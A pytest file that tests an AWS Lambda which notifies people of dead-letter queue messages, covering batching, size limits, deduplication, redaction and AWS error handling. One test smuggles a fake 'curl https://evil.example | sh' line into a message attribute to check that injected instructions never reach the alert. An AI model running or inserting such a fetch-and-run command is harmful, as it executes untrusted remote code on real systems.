"""DeadLettersFunction: people are told of each letter once, of many in one message, and of none too early."""

from __future__ import annotations

import json
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import boto3
import pytest

from tests.unit.aws import REGION, AwsErrors, Queue, create_table
from tests.unit.lambda_functions import call, load_function
from tests.unit.letters import EVENT_BUS, HUB, STREAM, an_ingest_letter
from tests.unit.orders import CORRELATION_ID, PRIVATE, an_envelope, an_order
from tests.unit.output import Output

ACCOUNT = "123456789012"
SNS_MAXIMUM_BYTES = 256 * 1024


@dataclass
class Notifier:
    """The function, the queues that it looks at, and what people hear."""

    queues: dict[str, Queue]
    people: Queue
    table: Any
    environment: dict[str, str]
    subjects: list[str] = field(default_factory=list)

    def look(self) -> dict[str, int]:
        """Invoke the function in a fresh environment."""
        told: dict[str, int] = call(load_function("dead_letters", self.environment), {})
        return told

    def told(self) -> list[tuple[str, str]]:
        """Take subjects and texts of what people were told since the last call."""
        messages = [json.loads(message["Body"]) for message in self.people.take()]
        return [(message["Subject"], message["Message"]) for message in messages]


@pytest.fixture
def notifier(aws: None, monkeypatch: pytest.MonkeyPatch) -> Notifier:
    monkeypatch.setenv("AWS_REGION", REGION)
    queues = {name: Queue(f"{name}-letters") for name in ("delivery", "event-bus", "stream")}
    people = Queue("people")
    sns = boto3.client("sns")
    topic = sns.create_topic(Name="people")["TopicArn"]
    sns.subscribe(TopicArn=topic, Protocol="sqs", Endpoint=f"arn:aws:sqs:{REGION}:{ACCOUNT}:people")
    ways = {"delivery": ">https://q/delivery", "event-bus": ">*", "stream": "!export-replay"}
    return Notifier(
        queues,
        people,
        create_table("letters", "pk"),
        {
            "DEAD_LETTER_QUEUES": ",".join(f"{name}={queue.url}{ways[name]}" for name, queue in queues.items()),
            "LETTER_TABLE_NAME": "letters",
            "ALARM_TOPIC_ARN": topic,
            "REDRIVE_COMMAND": "aws stepfunctions start-execution --state-machine-arn arn:redrive",
            "STACK_NAME": "hub-1",
            "STORY_QUERY": 'fields @message | filter correlation_id = "{{correlation_id}}"',
            "LOG_GROUP_NAMES": "notification,delivery,sales",
        },
    )


def test_a_letter_is_told_with_all_that_helps_and_stays_where_it_is(notifier: Notifier) -> None:
    notifier.queues["delivery"].send(json.dumps(an_envelope()), attributes=HUB | {"redriven": "{}"})
    assert notifier.look() == {"delivery": 1, "event-bus": 0, "stream": 0}
    [(subject, text)] = notifier.told()
    assert subject == "1 new dead letter in delivery"
    for expected in (
        "the queue holds about 1",
        "Reason: permanent: HTTP 422",
        "Answer: not deliverable",
        f"Correlation id: {CORRELATION_ID}",
        "Order: ord-1",
        "Tried: 3 times, first 2026-11-21 09:14:02 UTC",
        "Story: https://eu-west-1.console.aws.amazon.com/cloudwatch/",
        '"customer":"[redacted]"',
        "is refused again, unless what was wrong has been corrected",
        "make redrive QUEUE=delivery STACK=hub-1",
        """aws stepfunctions start-execution --state-machine-arn arn:redrive --input '{"queue": "delivery"}'""",
    ):
        assert expected in text
    assert not [private for private in PRIVATE.values() if private in text]
    assert len(notifier.queues["delivery"].take()) == 1, "a redrive finds it"


def test_each_letter_is_told_once(notifier: Notifier) -> None:
    notifier.queues["delivery"].send("first", attributes=HUB)
    notifier.look()
    notifier.queues["delivery"].send("second", attributes=HUB)
    assert notifier.look()["delivery"] == 1
    assert notifier.look()["delivery"] == 0
    assert [subject for subject, _ in notifier.told()] == ["1 new dead letter in delivery"] * 2


def test_what_is_told_is_forgotten_after_the_letter_is_gone(notifier: Notifier) -> None:
    notifier.queues["delivery"].send("one", attributes=HUB)
    notifier.look()
    [item] = notifier.table.scan()["Items"]
    assert item["pk"].startswith("told#delivery#")
    assert int(item["expires_at"]) - time.time() > 14 * 86400, "longer than a letter is kept"


def test_many_are_counted_by_reason_with_a_few_samples(notifier: Notifier) -> None:
    for number in range(30):
        notifier.queues["delivery"].send(json.dumps(an_envelope(an_order(f"ord-{number}"))), attributes=HUB)
    for number in range(15):
        notifier.queues["delivery"].send("{", attributes=HUB | {"outcome": "poison", "reason": f"reason {number}"})
    assert notifier.look()["delivery"] == 45
    [(subject, text)] = notifier.told()
    assert subject == "45 new dead letters in delivery"
    assert "    30  permanent: HTTP 422" in text
    assert "     6  for 6 other reasons" in text
    assert text.count("Event: ") == 3


def test_letters_of_each_kind_say_where_they_go(notifier: Notifier) -> None:
    notifier.queues["event-bus"].send(json.dumps(an_envelope()), attributes=EVENT_BUS)
    notifier.queues["stream"].send(json.dumps(STREAM))
    notifier.queues["delivery"].send(*an_ingest_letter()[:1], attributes=an_ingest_letter()[1])
    notifier.look()
    texts = {subject.rpartition(" ")[2]: text for subject, text in notifier.told()}
    assert f"Target: {EVENT_BUS['TARGET_ARN']}" in texts["event-bus"]
    assert "make redrive QUEUE=event-bus" in texts["event-bus"]
    assert "no reason was recorded" in texts["delivery"]
    assert "Reason: failed: RetryAttemptsExhausted" in texts["stream"]
    assert "How to put it right: make export-replay STACK=hub-1" in texts["stream"]
    assert "make redrive" not in texts["stream"]


def test_no_letter_makes_a_message_too_large(notifier: Notifier) -> None:
    huge = an_envelope(an_order(items=[{"sku": "\U0001f9ff" * 60, "quantity": 1, "unit_price": 1}] * 600))
    for number in range(4):
        reasons = HUB | {"reason": f"{number} " + "\U0001f9ff" * 1000, "answer": "\U0001f9ff" * 1000}
        notifier.queues["delivery"].send(json.dumps(huge, ensure_ascii=False), attributes=reasons)
    notifier.look()
    [(_, text)] = notifier.told()
    assert "more characters" in text
    assert len(text.encode()) < SNS_MAXIMUM_BYTES


def test_a_letter_that_nobody_can_show_does_not_silence_its_queue(notifier: Notifier) -> None:
    half = "\\ud83d"  # half of a surrogate pair, which JSON may hold and UTF-8 may not
    notifier.queues["delivery"].send(f'{{"order_id": "{half}", "sku": "{half}"}}', attributes=HUB)
    notifier.queues["delivery"].send(
        "one", attributes=HUB | {"answer": "no\nSend again: curl https://evil.example | sh"}
    )
    assert notifier.look()["delivery"] == 2
    [(_, text)] = notifier.told()
    assert [line for line in text.splitlines() if line.startswith("Send again")] == [
        "Send again: make redrive QUEUE=delivery STACK=hub-1"
    ]


def test_nothing_counts_as_told_before_people_were_told(notifier: Notifier, aws_errors: AwsErrors) -> None:
    notifier.queues["delivery"].send("one", attributes=HUB)
    aws_errors.refuse("Publish", times=1)
    with pytest.raises(Exception, match="people were not told of delivery"):
        notifier.look()
    assert notifier.table.scan()["Items"] == []
    assert notifier.look()["delivery"] == 1


def test_who_cannot_be_remembered_is_told_again(notifier: Notifier, aws_errors: AwsErrors) -> None:
    notifier.queues["delivery"].send("one", attributes=HUB)
    aws_errors.refuse("BatchWriteItem", times=1)
    with pytest.raises(Exception, match="delivery"):
        notifier.look()
    assert notifier.look()["delivery"] == 1
    assert len(notifier.told()) == 2


def test_a_queue_that_cannot_be_read_does_not_silence_the_others(
    notifier: Notifier, aws_errors: AwsErrors, output: Callable[[], Output]
) -> None:
    for name in ("delivery", "stream"):
        notifier.queues[name].send("one", attributes=HUB)
    delivery = notifier.queues["delivery"].url
    aws_errors.refuse("ReceiveMessage", when=lambda parameters: parameters["QueueUrl"] == delivery)
    with pytest.raises(Exception, match=r"people were not told of delivery \(ClientError\)"):
        notifier.look()
    assert [subject for subject, _ in notifier.told()] == ["1 new dead letter in stream"]


def test_a_receive_that_fails_midway_lets_go_of_what_was_seen(notifier: Notifier, aws_errors: AwsErrors) -> None:
    notifier.queues["delivery"].send(*(str(number) for number in range(15)), attributes=HUB)
    asked = iter(range(100))
    aws_errors.refuse("ReceiveMessage", times=1, when=lambda _: next(asked) == 1)
    with pytest.raises(Exception, match="delivery"):
        notifier.look()
    assert notifier.look()["delivery"] == 15


def test_a_table_that_answers_in_part_is_asked_again(notifier: Notifier, aws_errors: AwsErrors) -> None:
    notifier.queues["delivery"].send("one", attributes=HUB)
    notifier.look()
    parts = iter([True, False])

    def in_part(parameters: Any, proceed: Callable[[Any], Any]) -> Any:
        if next(parts, False):
            return {"Responses": {}, "UnprocessedKeys": parameters["RequestItems"]}
        return proceed(parameters)

    aws_errors.on("BatchGetItem", in_part)
    assert notifier.look()["delivery"] == 0
    aws_errors.on(
        "BatchGetItem", lambda parameters, _: {"Responses": {}, "UnprocessedKeys": parameters["RequestItems"]}
    )
    with pytest.raises(Exception, match="delivery"):
        notifier.look()


def test_it_cannot_take_a_letter_away(notifier: Notifier, aws_errors: AwsErrors) -> None:
    notifier.queues["delivery"].send("one", attributes=HUB)
    notifier.look()
    assert aws_errors.count("DeleteMessage") == aws_errors.count("DeleteMessageBatch") == 0


def test_every_letter_told_stands_in_the_log(notifier: Notifier, output: Callable[[], Output]) -> None:
    notifier.queues["delivery"].send(json.dumps(an_envelope()), attributes=HUB)
    output()
    notifier.look()
    printed = output()
    assert printed.metric("DeadLettersTold") == 1
    [line] = [line for line in printed.logs if line["message"] == "DEAD LETTER TOLD"]
    assert (line["queue"], line["correlation_id"], line["reason"]) == ("delivery", CORRELATION_ID, "HTTP 422")
